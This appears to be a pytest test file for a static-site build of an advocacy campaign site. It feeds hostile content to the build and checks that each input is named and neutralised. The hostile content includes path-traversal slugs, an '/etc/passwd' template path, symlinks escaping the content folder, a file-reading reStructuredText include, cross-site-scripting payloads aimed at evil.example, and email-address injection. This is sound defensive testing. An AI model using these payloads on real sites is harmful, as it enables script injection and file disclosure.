"""Hostile and malformed content: each input gets its named outcome, never a traceback.

Every case builds a small site (tests/conftest.py) with one hostile change,
then asserts the message the build gives (file, field or line, and what to
do), what the site does with it, and that a strict build fails where the
message is a warning or an error.
"""

import html
import io
import os
import pathlib
import pickle
import re
import signal
import socket
import urllib.parse
import xml.etree.ElementTree as ElementTree

import pytest

from conftest import (ROOT, PEOPLE_TOML, TARGETS_TOML, action_md, briefing_md, build_site, minimal_files, photo,
                      settings_for)
from sitebuild import BuildFailed, build as run_build
from translation_stubs.catalogs import theme_strings

LETTER = "::: letter\nSubject: Release them\n\nPlease release everyone detained.\n:::\n"


def with_files(**changes):
    files = minimal_files()
    for name, text in changes.items():
        path = name.replace("__", "/").replace("_DOT_", ".")
        if text is None:
            files.pop(path, None)
        else:
            files[path] = text
    return files


def build(tmp_path, files):
    return build_site(tmp_path, files)


def messages(site, *fragments):
    return [m for m in site.report.errors + site.report.warnings if all(f in m for f in fragments)]


def assert_strict_fails(tmp_path, files):
    with pytest.raises(BuildFailed):
        build_site(tmp_path / "strict", files, strict=True)


def build_with_cache(folder, extra_settings=None):
    """Build folder/content as `invoke build` does: Pelican's content cache and incremental rebuilds on."""
    overrides = settings_for(folder, {"CACHE_CONTENT": True, "LOAD_CONTENT_CACHE": True, **(extra_settings or {})})
    return run_build(str(ROOT / "pelicanconf.py"), overrides=overrides)


def files_under(folder):
    return {p.relative_to(folder).as_posix() for p in pathlib.Path(folder).rglob("*")}


# ---- 1. Nothing is written, copied or read outside its place ----

@pytest.mark.parametrize("slug, expected", [
    ("../../output-evil", "may hold only lower-case letters"),
    ("a/b", "may hold only lower-case letters"),
    ("Free-Them", "may hold only lower-case letters"),
    ("sitemap.xml", "may hold only lower-case letters"),
    ("x" * 300, "is 300 characters long; the limit is 80"),
    ("\U00020000" * 80, "takes 320 bytes in UTF-8; the limit is 240"),  # 80 letters: too long a folder name
    ("free them", "may hold only lower-case letters"),
])
def test_a_slug_that_is_not_a_folder_name_is_refused(tmp_path, slug, expected):
    files = with_files(actions__evil_DOT_md=action_md(slug=slug, title="Evil"))
    site = build(tmp_path, files)
    assert messages(site, "actions/evil.md", "field 'slug'", expected)
    assert {p.name for p in tmp_path.iterdir()} <= {"content", "output", "cache"}
    assert not any("output-evil" in p for p in files_under(tmp_path))
    assert not any("Evil" in (site.output / p).read_text(encoding="utf-8")
                   for p in files_under(site.output) if p.endswith(".html"))
    assert_strict_fails(tmp_path, files)


@pytest.mark.parametrize("name, slug_line", [
    ("actions", ""), ("translation-status", ""), ("ru", ""), ("feeds", ""), ("images", ""), ("about", "Slug: briefings\n"),
])
def test_a_page_may_not_take_a_path_the_site_uses(tmp_path, name, slug_line):
    files = minimal_files() | {f"pages/{name}.md": f"Title: Clash\n{slug_line}\nText.\n"}
    site = build(tmp_path, files)
    assert messages(site, f"pages/{name}.md", "field 'slug'", "is a path the site uses itself")
    assert "Clash" not in site.text("index.html")


def test_a_language_suffix_in_capitals_is_named_not_served_as_english(tmp_path):
    files = with_files(pages__about_DOT_RU_DOT_md="Title: О нас\nLang: ru\n\nО нас.\n")
    site = build(tmp_path, files)
    assert messages(site, "pages/about.RU.md", "field 'lang'", "not 'ru'", "Rename the file to about.ru.md")
    assert "О нас" not in site.text("about/index.html")


def test_a_lang_line_that_contradicts_the_file_name_is_named(tmp_path):
    text = minimal_files()["actions/free-them.ru.md"].replace("Lang: ru", "Lang: kk")
    site = build(tmp_path, minimal_files() | {"actions/free-them.ru.md": text})
    assert messages(site, "actions/free-them.ru.md", "field 'lang'", "'kk' contradicts the file name, which says 'ru'")
    assert_strict_fails(tmp_path, minimal_files() | {"actions/free-them.ru.md": text})


def test_a_dotted_file_name_that_is_not_a_language_is_named(tmp_path):
    files = with_files(pages__about_DOT_draft_DOT_md="Title: Draft\n\nDraft text.\n")
    site = build(tmp_path, files)
    assert messages(site, "pages/about.draft.md", "'draft' in the file name is not a language code")
    assert "Draft text" not in site.text("about/index.html")


def test_a_static_link_out_of_the_content_folder_copies_nothing(tmp_path):
    (tmp_path / "secret.txt").write_text("secret", encoding="utf-8")
    files = with_files(pages__about_DOT_md="Title: About\n\n[x]({static}../../secret.txt) and [y]({filename}/../../secret.txt)\n")
    site = build(tmp_path, files)
    assert messages(site, "pages/about.md", "links to {static}../../secret.txt", "outside the content folder")
    assert messages(site, "pages/about.md", "links to {filename}/../../secret.txt")
    assert not any(p.endswith("secret.txt") for p in files_under(site.output))
    assert {p.name for p in tmp_path.iterdir()} == {"content", "output", "cache", "secret.txt"}
    assert not (tmp_path.parent / "secret.txt").exists()
    assert 'href="#"' in site.text("about/index.html")


def test_a_linked_file_leading_outside_content_is_not_read(tmp_path):
    outside = tmp_path / "outside.md"
    outside.write_text("Title: Leaked\nSlug: leaked\n\nPrivate notes.\n", encoding="utf-8")
    files = minimal_files()
    site_content = tmp_path / "content"
    (site_content / "pages").mkdir(parents=True)
    (site_content / "pages" / "leaked.md").symlink_to(outside)
    site = build(tmp_path, files)
    assert messages(site, "pages/leaked.md", "is a link to a file outside the content folder")
    assert not (site.output / "leaked").exists()
    assert not any("Private notes" in (site.output / p).read_text(encoding="utf-8", errors="replace")
                   for p in files_under(site.output) if p.endswith((".html", ".xml")))


def test_a_linked_folder_leading_outside_content_is_not_walked(tmp_path):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "stolen.md").write_text("Title: Stolen\n\nFrom elsewhere.\n", encoding="utf-8")
    (outside / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    content = tmp_path / "content"
    (content / "pages").mkdir(parents=True)
    (content / "pages" / "more").symlink_to(outside, target_is_directory=True)
    (content / "images").mkdir()
    (content / "images" / "more").symlink_to(outside, target_is_directory=True)
    site = build(tmp_path, minimal_files())
    assert messages(site, "pages/more", "is a link to a place outside the content folder")
    assert messages(site, "images/more", "is a link to a place outside the content folder")
    assert not (site.output / "stolen").exists()
    assert not any(p.endswith(("photo.png", "stolen.md")) for p in files_under(site.output))


def test_a_data_folder_that_is_a_link_leading_outside_content_is_not_read(tmp_path):
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "targets.toml").write_text(TARGETS_TOML.replace("Office of the Prosecutor General", "LEAKED"),
                                          encoding="utf-8")
    (outside / "people.toml").write_text(PEOPLE_TOML, encoding="utf-8")
    (tmp_path / "content").mkdir()
    (tmp_path / "content" / "data").symlink_to(outside, target_is_directory=True)
    files = {path: text for path, text in minimal_files().items() if not path.startswith("data/")}
    site = build(tmp_path, files)
    assert messages(site, "targets.toml", "is a link to a file outside the content folder")
    assert messages(site, "people.toml", "is a link to a file outside the content folder")
    assert not any("LEAKED" in (site.output / p).read_text(encoding="utf-8", errors="replace")
                   for p in files_under(site.output) if p.endswith((".html", ".xml")))
    assert_strict_fails(tmp_path, files)


def test_data_nested_too_deeply_is_named(tmp_path):
    site = build(tmp_path, minimal_files() | {"data/people.toml": PEOPLE_TOML + "deep = " + "[" * 2000 + "]" * 2000 + "\n"})
    assert messages(site, "people.toml", "nests arrays or tables too deeply")


def test_links_that_loop_are_named_and_the_site_builds(tmp_path):
    pages = tmp_path / "content" / "pages"
    pages.mkdir(parents=True)
    (pages / "self").symlink_to(".", target_is_directory=True)
    (pages / "loop.md").symlink_to("loop.md")
    site = build(tmp_path, minimal_files())
    assert messages(site, "pages/self", "is a link to a folder it is in", "Delete the link")
    assert messages(site, "pages/loop.md", "cannot be read")
    assert not any("/self/" in p for p in files_under(site.output))
    assert site.exists("actions/free-them/index.html")
    with pytest.raises(BuildFailed):
        build_site(tmp_path, minimal_files(), strict=True)


RST_INCLUDE = "Leak\n####\n\n:slug: leak\n:lang: en\n\n.. include:: {secret}\n   :literal:\n"


def test_documents_in_formats_pelican_reads_itself_are_named_and_never_read(tmp_path):
    """Pelican's own readers run none of our checks: a reStructuredText include reads any file, raw HTML
    carries script. A .rst, .html or .htm document is named and left out; a named pipe so named is not
    waited for."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOKEN=hunter2", encoding="utf-8")
    files = with_files(pages__leak_DOT_rst=RST_INCLUDE.format(secret=secret),
                       actions__raw_DOT_html="<html><head><title>Raw</title></head><body><script>alert(1)</script></body></html>",
                       pages__old_DOT_htm="<html><head><title>Old</title></head><body>Old</body></html>")
    if hasattr(os, "mkfifo"):
        (tmp_path / "content" / "pages").mkdir(parents=True)
        os.mkfifo(tmp_path / "content" / "pages" / "pipe.html")
    signal.signal(signal.SIGALRM, waited_too_long)
    signal.alarm(60)
    try:
        site = build(tmp_path, files)
    finally:
        signal.alarm(0)
    for name in ("pages/leak.rst", "actions/raw.html", "pages/old.htm") + (("pages/pipe.html",) if hasattr(os, "mkfifo") else ()):
        assert messages(site, name, "is not Markdown", "left out", ".md"), name
    written = [p for p in files_under(site.output) if p.endswith((".html", ".xml"))]
    assert not any("hunter2" in (site.output / p).read_text(encoding="utf-8") for p in written)
    assert not any("alert(1)" in (site.output / p).read_text(encoding="utf-8") for p in written)
    assert not (site.output / "leak").exists() and site.exists("actions/free-them/index.html")
    with pytest.raises(BuildFailed):
        build_site(tmp_path / "strict", with_files(pages__leak_DOT_rst=RST_INCLUDE.format(secret=secret)), strict=True)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_a_named_pipe_in_content_is_named_and_never_waited_for(tmp_path):
    for folder in (tmp_path, tmp_path / "strict"):
        content = folder / "content"
        (content / "pages").mkdir(parents=True)
        (content / "images").mkdir()
        os.mkfifo(content / "pages" / "pipe.md")  # opening it to read would wait for a writer forever
        os.mkfifo(content / "images" / "pipe.png")
        listening = socket.socket(socket.AF_UNIX)
        listening.bind(str(content / "pages" / "socket.md"))  # opening it fails with "No such device or address"
        listening.close()
    signal.signal(signal.SIGALRM, waited_too_long)
    signal.alarm(60)
    try:
        site = build(tmp_path, minimal_files())
        assert messages(site, "pages/pipe.md", "is not a regular file", "so it was not read")
        assert messages(site, "pages/socket.md", "is not a regular file", "so it was not read")
        assert messages(site, "images/pipe.png", "is not a regular file", "so it was not published")
        assert site.exists("actions/free-them/index.html")
        assert not (site.output / "images" / "pipe.png").exists()
        with pytest.raises(BuildFailed):
            build_site(tmp_path / "strict", minimal_files(), strict=True)
    finally:
        signal.alarm(0)


class WaitedTooLong(BaseException):
    """Not an Exception: the build catches and reports those (OSError when reading, any in Pelican's readers)."""


def waited_too_long(signum, frame):
    raise WaitedTooLong("the build ran over its minute: waiting on a named pipe, or walking where a link leads")


def test_a_link_to_the_whole_machine_or_one_it_cannot_resolve_is_named_and_never_walked(tmp_path):
    for name, folder in (("root", "/"), ("process", "/proc/1/cwd")):  # the second: no resolving it unprivileged
        pages = tmp_path / "content" / "pages"
        pages.mkdir(parents=True, exist_ok=True)
        (pages / name).symlink_to(folder, target_is_directory=True)
    (tmp_path / "content" / "pages" / "x.md").symlink_to("/proc/1/cwd")
    for path, text in minimal_files().items():
        (tmp_path / "content" / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "content" / path).write_text(text, encoding="utf-8")
    signal.signal(signal.SIGALRM, waited_too_long)  # the rebuild manifest walked all of / behind "root"
    signal.alarm(60)
    try:
        for _ in range(2):  # a full build, then a rebuild from its manifest
            report = build_with_cache(tmp_path)
            for name in ("pages/root", "pages/process", "pages/x.md"):
                assert any(name in m and "outside the content folder" in m for m in report.errors), name
    finally:
        signal.alarm(0)
    assert (tmp_path / "output" / "actions" / "free-them" / "index.html").exists()


def test_the_rebuild_manifest_never_reads_a_file_behind_a_link_that_leaves_content(tmp_path):
    from incremental.incremental import file_to_hash
    from incremental.manifest import file_hash, load

    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "secret.txt").write_text("not the campaign's", encoding="utf-8")
    content = tmp_path / "content"
    (content / "images").mkdir(parents=True)
    (content / "images" / "more").symlink_to(outside, target_is_directory=True)
    (content / "images" / "secret.txt").symlink_to(outside / "secret.txt")
    site = build(tmp_path, minimal_files())
    digests = load(str(tmp_path / "cache")).digests
    secret = file_hash(str(outside / "secret.txt"))
    assert not [name for name, (_, _, digest) in digests.items() if digest == secret]
    with pytest.raises(OSError, match="leads outside the content folder"):
        file_to_hash(str(content), "images/secret.txt")
    assert messages(site, "images/secret.txt", "outside the content folder")  # named, as before


@pytest.mark.parametrize("field, value", [("Save_as", "../../evil.html"), ("URL", "https://evil.example/"),
                                          ("Template", "../../../etc/passwd")])
def test_fields_that_decide_where_a_page_goes_are_refused(tmp_path, field, value):
    files = with_files(pages__about_DOT_md=f"Title: About\n{field}: {value}\n\nAbout us.\n")
    site = build(tmp_path, files)
    assert messages(site, "pages/about.md", f"field '{field.lower()}'")
    assert not (tmp_path / "evil.html").exists() and not (tmp_path.parent / "evil.html").exists()


# ---- 2. No content can run script, load from elsewhere, or navigate ----

BODY_ATTACKS = [
    ("script", "<script>alert(1)</script>", "<script>", "alert(1)"),
    ("handler", '<p onclick="steal()">Click</p>', "onclick= on <p>", "steal()"),
    ("javascript-link", "[win a prize](javascript:alert(document.cookie))", 'href="javascript:alert(document.cookie)"',
     "javascript:"),
    ("data-link", "[x](data:text/html;base64,PHNjcmlwdD4=)", 'href="data:text/html;base64,PHNjcmlwdD4="', "data:text"),
    ("vbscript-link", '<a href="vbscript:msgbox(1)">x</a>', 'href="vbscript:msgbox(1)"', "vbscript:"),
    ("iframe", '<iframe src="https://evil.example/"></iframe>', "<iframe>", "evil.example"),
    ("tracking-image", '<img src="https://tracker.example/p.gif" alt="">', 'src="https://tracker.example/p.gif"',
     "tracker.example"),
    ("form", '<form action="https://evil.example/"><input name="email"></form>', "<form>", "evil.example"),
    ("style", "<style>body{background:url(https://evil.example/x)}</style>", "<style>", "evil.example"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta>", "evil.example"),
    ("base", '<base href="https://evil.example/">', "<base>", "evil.example"),
    ("object", '<object data="https://evil.example/x.swf"></object>', "<object>", "evil.example"),
    ("svg-script", '<svg><script>alert(1)</script></svg>', "<svg>", "alert(1)"),
    ("attr-list-handler", "Click me\n{: onmouseover=\"steal()\" }", "onmouseover", "steal()"),
]


def test_footnotes_lose_nothing_and_an_attack_beside_one_is_still_removed_and_said(tmp_path):
    # nh3 writes the footnotes' character references its own way; that alone removes nothing.
    clean = build(tmp_path / "clean", with_files())
    assert 'class="footnote"' in (clean.output / "briefings" / "background" / "index.html").read_text(encoding="utf-8")
    assert not messages(clean, "removed:")
    attacked = build(tmp_path / "attacked", with_files(briefings__background_DOT_md=briefing_md(
        body="## One\n\nText.[^1] <img src=x onerror=alert(1)>\n\n[^1]: A source.\n")))
    assert messages(attacked, "briefings/background.md", "removed:", "onerror")
    assert "alert(1)" not in (attacked.output / "briefings" / "background" / "index.html").read_text(encoding="utf-8")


def test_an_address_html_does_not_allow_is_percent_encoded_not_left_to_fail_the_publish(tmp_path):
    # Browsers follow ?ids[]=1 or ?markers=1|2, but HTML does not allow them in a link: the site checks stopped
    # the publish on the page. Encoded, the links lead where they did, and nothing is said to be removed.
    body = ("See [the list](https://example.org/search?ids[]=1&ids[]=2), [the map](https://maps.example.org/?m=1|2), "
            "[a note](https://example.org/a#b#c), [the rate](https://example.org/?r=100%) and "
            '<a href="https://example.org/{x}^`y">this</a>.\n\n![A crowd]({static}/images/crowd.jpg)\n')
    files = with_files(pages__about_DOT_md="Title: About\nSummary: [Our list](https://example.org/s?ids[]=3)\n\n"
                       + body, images__crowd_DOT_jpg=photo(400, 300))
    site = build(tmp_path, files)
    page = site.text("about/index.html")
    for href in ("https://example.org/search?ids%5B%5D=1&amp;ids%5B%5D=2", "https://maps.example.org/?m=1%7C2",
                 "https://example.org/a#b%23c", "https://example.org/?r=100%25", "https://example.org/%7Bx%7D%5E%60y"):
        assert f'href="{href}"' in page, href
    assert '<img alt="A crowd" src="../images/crowd.jpg">' in page  # Pelican's own link syntax is left to Pelican
    assert "https://example.org/s?ids%5B%5D=3" in site.text("index.html")
    assert not messages(site, "removed:") and not messages(site, "pages/about.md")


@pytest.mark.parametrize("name, html, said, gone", BODY_ATTACKS, ids=[case[0] for case in BODY_ATTACKS])
def test_a_body_cannot_run_load_or_navigate(tmp_path, name, html, said, gone):
    files = with_files(briefings__background_DOT_md=briefing_md(body=f"## One\n\nText.\n\n{html}\n\nMore text.\n"))
    site = build(tmp_path, files)
    assert messages(site, "briefings/background.md", "removed:", said), site.report.warnings
    page = site.text("briefings/background/index.html")
    assert gone not in page
    assert "More text." in page
    assert gone not in site.text("feeds/atom.xml")


def build_with_summary(tmp_path, summary):
    """The fixture site, its English action's summary replaced by `summary`."""
    action = action_md().replace("Summary: Hundreds were detained for protesting peacefully.", f"Summary: {summary}")
    return build(tmp_path, {**minimal_files(), "actions/free-them.md": action})


def test_a_summary_that_redirects_is_cleaned_on_the_page_the_lists_and_the_feed(tmp_path):
    summary = 'Read this. <meta http-equiv="refresh" content="0;url=https://evil.example/"><b onmouseover="x()">Now</b>'
    site = build_with_summary(tmp_path, summary)
    assert messages(site, "actions/free-them.md", "field 'summary'", "<meta>")
    for page in ("actions/free-them/index.html", "index.html", "actions/index.html", "feeds/atom.xml"):
        text = site.text(page)
        assert "evil.example" not in text and "onmouseover" not in text, page
        assert "Now" in text, page


def test_a_plain_summary_with_quotes_stays_text_in_attributes_lists_and_the_feed(tmp_path):
    # Letters, spaces and quotation marks only: the summary skips Markdown (plain_fields.py), so its
    # quotes reach the templates as they are written, and every attribute must still escape them.
    summary = 'Free them" autofocus onfocus "now'
    site = build_with_summary(tmp_path, summary)
    page = site.soup("actions/free-them/index.html")
    assert page.find("meta", attrs={"name": "description"})["content"] == summary
    assert page.find("meta", attrs={"property": "og:description"})["content"] == summary
    for name in ("actions/free-them/index.html", "index.html", "actions/index.html"):
        assert not site.soup(name).find(attrs={"autofocus": True}), name
        assert not site.soup(name).find(attrs={"onfocus": True}), name
    feed = ElementTree.fromstring(site.path("feeds/atom.xml").read_bytes())
    summaries = [element.text for element in feed.iter("{http://www.w3.org/2005/Atom}summary")]
    assert f"<p>{summary}</p>" in summaries  # escaped HTML in the feed: a reader shows it as text


# ---- 3. Every malformed input is named, never a traceback ----

def test_a_vertical_tab_is_taken_out_and_named_and_the_feed_stays_xml(tmp_path):
    files = with_files(briefings__background_DOT_md=briefing_md(body="## One\n\nText\x0bwith a tab.\n"))
    site = build(tmp_path, files)
    assert messages(site, "briefings/background.md:8", "U+000B")
    ElementTree.fromstring(site.path("feeds/atom.xml").read_bytes())
    assert "Textwith a tab." in site.text("briefings/background/index.html")


def test_control_characters_in_a_title_are_named(tmp_path):
    files = with_files(pages__about_DOT_md="Title: About\x01\x1b[31m us\n\nAbout.\n")
    site = build(tmp_path, files)
    assert messages(site, "pages/about.md:1", "U+0001", "U+001B")
    assert "About[31m us" in site.text("about/index.html")


def test_a_noncharacter_is_taken_out_and_named_and_every_page_stays_valid_html(tmp_path):
    # U+FDD0..U+FDEF and U+1FFFE are noncharacters: HTML forbids them in a page, so one in a translated title
    # made the page, the lists and the letter page invalid ("Forbidden code point"), and `invoke publish`
    # failed on built pages without naming the file that held it.
    translation = action_md(lang="ru", title="Освободите \ufdd0их", body="Тело \U0001fffe текст.").replace(
        "Summary: Hundreds", "Summary: Сотни \ufdef")
    people = PEOPLE_TOML.replace("Правозащитник", "Правозащитник\\uFDD1")  # TOML's escape
    files = minimal_files() | {"actions/free-them.ru.md": translation, "data/people.toml": people}
    site = build(tmp_path, files)
    assert messages(site, "actions/free-them.ru.md:1", "U+FDD0")
    assert messages(site, "actions/free-them.ru.md", "U+FDEF")
    assert messages(site, "actions/free-them.ru.md", "U+1FFFE")
    assert messages(site, "people.toml", "field 'dmitry-tikhonov.description.ru'", "U+FDD1")
    noncharacter = re.compile("[\ufdd0-\ufdef\U0001fffe]")
    pages = list(site.output.rglob("*.html")) + list(site.output.rglob("*.xml"))
    assert [page for page in pages if noncharacter.search(page.read_text(encoding="utf-8"))] == []
    assert "<h1>Освободите их</h1>" in site.text("ru/actions/free-them/index.html")
    assert_strict_fails(tmp_path, files)


@pytest.mark.parametrize("reference, character", [("&#1;", "U+0001"), ("&#x1b;", "U+001B"), ("&#xFFFE;", "U+FFFE"),
                                                  ("&#xFDD0;", "U+FDD0")])
def test_a_character_reference_to_a_forbidden_character_is_taken_out_and_named(tmp_path, reference, character):
    # The sanitiser turns a character reference into its character: '&#1;' in a body or summary stopped the
    # build with a traceback in the feed writer (UnserializableContentError), and '&#xFFFE;' left a feed no
    # XML parser reads and pages with a noncharacter, though the same character typed as itself is taken out.
    action = action_md(body=f"The people {reference}were detained.").replace(
        "Summary: Hundreds", f"Summary: Hundreds {reference}")
    site = build(tmp_path, {**minimal_files(), "actions/free-them.md": action})
    assert messages(site, "actions/free-them.md", "field 'summary'", character)
    assert messages(site, "actions/free-them.md", character)
    for feed in ("feeds/atom.xml", "ru/feeds/atom.xml", "sitemap.xml"):
        ElementTree.fromstring(site.path(feed).read_bytes())
    assert "The people were detained." in site.text("actions/free-them/index.html")
    forbidden = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff]")
    pages = list(site.output.rglob("*.html")) + list(site.output.rglob("*.xml"))
    assert [page for page in pages if forbidden.search(page.read_text(encoding="utf-8"))] == []


def test_invalid_utf8_in_a_document_is_named_and_the_rest_builds(tmp_path):
    files = minimal_files()
    build_files = dict(files)
    content = tmp_path / "content"
    (content / "actions").mkdir(parents=True)
    (content / "actions" / "latin1.md").write_bytes("Title: Caf\xe9\nSlug: latin1\n\nText.\n".encode("latin-1"))
    site = build(tmp_path, build_files)
    assert messages(site, "actions/latin1.md:1", "is not UTF-8 text", "Save the file as UTF-8")
    assert site.exists("actions/free-them/index.html")
    assert not site.exists("actions/latin1/index.html")


def test_invalid_utf8_in_people_toml_is_named(tmp_path):
    files = minimal_files()
    files.pop("data/people.toml")
    (tmp_path / "content" / "data").mkdir(parents=True)
    (tmp_path / "content" / "data" / "people.toml").write_bytes(
        PEOPLE_TOML.encode("utf-8") + b'\n[other]\nname = "Caf\xe9"\n')
    site = build(tmp_path, files)
    assert messages(site, "people.toml:7", "is not UTF-8 text", "Save the file as UTF-8")
    assert not any("Traceback" in m or "UnicodeDecodeError" in m for m in site.report.errors)


def test_too_deep_nesting_is_named_and_the_build_stays_bounded(tmp_path):
    nested = "\n".join("    " * depth + "- level" for depth in range(300))
    files = with_files(briefings__background_DOT_md=briefing_md(body=f"## One\n\n{nested}\n"))
    site = build(tmp_path, files)
    assert messages(site, "briefings/background.md", "levels deep; the limit is 16", "Flatten")
    assert not site.exists("briefings/background/index.html")
    assert site.exists("actions/free-them/index.html")


@pytest.mark.parametrize("body, expected", [
    ("[" * 50000 + "x" + "]" * 50000, "has 50000 '[' (links, footnotes); the limit is 1000"),
    ("[a](" * 20000, "has 20000 '['"),
    ("<div>" * 30000 + "x" + "</div>" * 30000, "has 60000 '<' (HTML tags); the limit is 5000"),
])
def test_text_that_would_take_markdown_hours_is_refused_at_once(tmp_path, body, expected):
    site = build(tmp_path, with_files(pages__about_DOT_md=f"Title: About\n\n{body}\n"))
    assert messages(site, "pages/about.md", expected, "plit")
    assert site.exists("actions/free-them/index.html")


def test_a_thousand_definitions_in_a_row_are_named(tmp_path):
    files = with_files(pages__about_DOT_md="Title: About\n\n" + "term\n: definition\n" * 1000)
    site = build(tmp_path, files)
    assert messages(site, "pages/about.md", "structured too deeply for Markdown", "Split it")
    assert not site.exists("about/index.html")
    assert site.exists("actions/free-them/index.html")


def test_a_long_table_without_words_builds_in_seconds(tmp_path):
    # Pelican's summary cutter took 110 s on this page (time ~ lines x tags); a 2 MB one would take hours.
    import time

    body = "| | |\n|-|-|\n" + "| | |\n" * 10_000
    started = time.process_time()
    site = build(tmp_path, with_files(pages__about_DOT_md="Title: About\n\n" + body))
    assert time.process_time() - started < 30  # a bound on a hang, not a speed measurement
    assert site.soup("about/index.html").select("table tr")


def test_a_page_without_a_summary_gets_pelicans_summary(tmp_path):
    words = " ".join(f"word{n}" for n in range(80))
    site = build(tmp_path, with_files(pages__about_DOT_md=f"Title: About\n\n{words}\n"))
    description = site.soup("about/index.html").select_one('meta[property="og:description"]')["content"]
    assert description == " ".join(f"word{n}" for n in range(50)) + " …"


def test_deep_quotations_are_named(tmp_path):
    files = with_files(pages__about_DOT_md="Title: About\n\n" + ">" * 500 + " deep\n")
    site = build(tmp_path, files)
    assert messages(site, "pages/about.md:3", "levels deep")


@pytest.mark.parametrize("extra, field, expected", [
    ("Targets: prosecutor-general, prosecutor-general", "targets", "lists prosecutor-general more than once"),
    ("People: dmitry-tikhonov,,", "people", "has an empty item"),
])
def test_repeated_and_empty_list_items_are_named(tmp_path, extra, field, expected):
    text = action_md().replace("Targets: prosecutor-general\n", "").replace("People: dmitry-tikhonov\n", "")
    keep = "People: dmitry-tikhonov" if field == "targets" else "Targets: prosecutor-general"
    text = text.replace("Briefing: background", f"Briefing: background\n{keep}\n{extra}")
    site = build(tmp_path, with_files(actions__free_DOT_them_DOT_md=None) | {"actions/free-them.md": text})
    assert messages(site, "actions/free-them.md", f"field '{field}'", expected)
    page = site.soup("actions/free-them/index.html")
    if field == "targets":
        mailto = page.select_one("a.send-mailto")["href"]
        assert mailto.split("?")[0].count("prosecutor@example.org") == 1


def test_a_list_of_nobody_is_an_error(tmp_path):
    text = action_md().replace("Targets: prosecutor-general", "Targets: ,")
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    assert messages(site, "actions/free-them.md", "field 'targets'", "names nobody")
    assert not site.exists("actions/free-them/index.html")


def test_a_colonless_translator_line_is_named_without_the_volunteer_s_name(tmp_path):
    # The build's messages reach CI's log, public for a public repository: no volunteer's name may be in it.
    text = action_md(lang="ru", extra="Translator Aigerim Volunteer")
    site = build(tmp_path, minimal_files() | {"actions/free-them.ru.md": text})
    assert messages(site, "actions/free-them.ru.md:11", "the header line 'Translator …' has no colon")
    assert not [m for m in site.report.errors + site.report.warnings if "Aigerim" in m]


def test_a_deadline_before_the_date_is_named(tmp_path):
    text = action_md(deadline="2019-01-01")
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    assert messages(site, "actions/free-them.md", "field 'deadline'", "is before the action's Date")


def test_a_colonless_header_line_is_named_and_the_following_fields_are_kept(tmp_path):
    text = action_md().replace("Briefing: background", "Petition https://petition.example/free\nBriefing: background")
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    assert messages(site, "actions/free-them.md:9", "'Petition https://petition.example/free' has no colon")
    assert "Petition https" not in site.text("actions/free-them/index.html")
    assert site.exists("actions/free-them/index.html")  # Briefing: was still read


@pytest.mark.parametrize("field", ["Title", "Summary"])
def test_a_repeated_field_is_named_not_merged(tmp_path, field):
    text = action_md().replace("Briefing: background", f"Briefing: background\n{field}: A second value")
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    assert messages(site, "actions/free-them.md:10", f"field '{field.lower()}'", "is written twice")
    assert "A second value" not in site.text("actions/free-them/index.html")


@pytest.mark.parametrize("marks", ["\ufeff", "\ufeff\ufeff"])
def test_a_byte_order_mark_changes_nothing(tmp_path, marks):
    # Two marks: an editor that adds one to a file that had one. The second hid the header (the first line
    # began with it), so the document had no title.
    plain = build_site(tmp_path / "plain", minimal_files())
    files = minimal_files()
    files["actions/free-them.md"] = marks + files["actions/free-them.md"]
    marked = build_site(tmp_path / "marked", files)
    assert not marked.report.problems
    assert marked.text("actions/free-them/index.html") == plain.text("actions/free-them/index.html")


# ---- 4. The letter block is found by the Markdown parser ----

def test_a_letter_example_in_a_code_block_stays_code(tmp_path):
    example = "```\n::: letter\nSubject: An example\n\nText.\n:::\n```\n"
    site = build(tmp_path, with_files(pages__about_DOT_md=f"Title: About\n\nWrite letters like this:\n\n{example}"))
    assert not site.report.problems
    code = site.soup("about/index.html").select_one("pre code").get_text()
    assert "::: letter" in code and "Subject: An example" in code


def test_a_fence_line_inside_a_letter_is_named_never_cut_silently(tmp_path):
    letter = "::: letter\nSubject: Release them\n\nFirst paragraph.\n:::\nSecond paragraph.\n:::\n"
    text = action_md(letter=False) + "\n" + letter
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    assert messages(site, "actions/free-them.md", "field 'letter'", "closes no '::: letter' block")


def test_an_unclosed_letter_is_named(tmp_path):
    text = action_md(letter=False) + "\n::: letter\nSubject: Release them\n\nText without an end.\n"
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    assert messages(site, "actions/free-them.md", "field 'letter'", "never closed")


def test_a_second_letter_is_named(tmp_path):
    text = action_md() + "\n" + LETTER
    site = build(tmp_path, minimal_files() | {"actions/free-them.md": text})
    assert messages(site, "actions/free-them.md", "field 'letter'", "second '::: letter' block")


# ---- 5. Addresses are validated after decoding ----

def targets_with(email):
    return TARGETS_TOML.replace('"prosecutor@example.org"', email)


@pytest.mark.parametrize("email, expected", [
    ('"office%2Cspy%40evil.example%2Cx@example.org"', "holds percent-encoding"),
    ('"прокурор@example.org"', "outside ASCII before the '@'"),
    ('"office@exa mple.org"', "is not an email address"),
    ('"a@b@example.org"', "is not an email address"),
])
def test_an_address_that_is_not_what_it_seems_is_refused(tmp_path, email, expected):
    site = build(tmp_path, minimal_files() | {"data/targets.toml": targets_with(email)})
    assert messages(site, "targets.toml", "field 'prosecutor-general.email'", expected)
    if site.exists("actions/free-them/index.html"):
        assert "evil.example" not in site.text("actions/free-them/index.html")


def test_a_language_with_a_line_feed_after_it_is_refused(tmp_path):
    site = build(tmp_path, minimal_files() | {"data/targets.toml": TARGETS_TOML.replace('language = "ru"',
                                                                                        'language = "ru\\n"', 1)})
    assert messages(site, "targets.toml", "language")


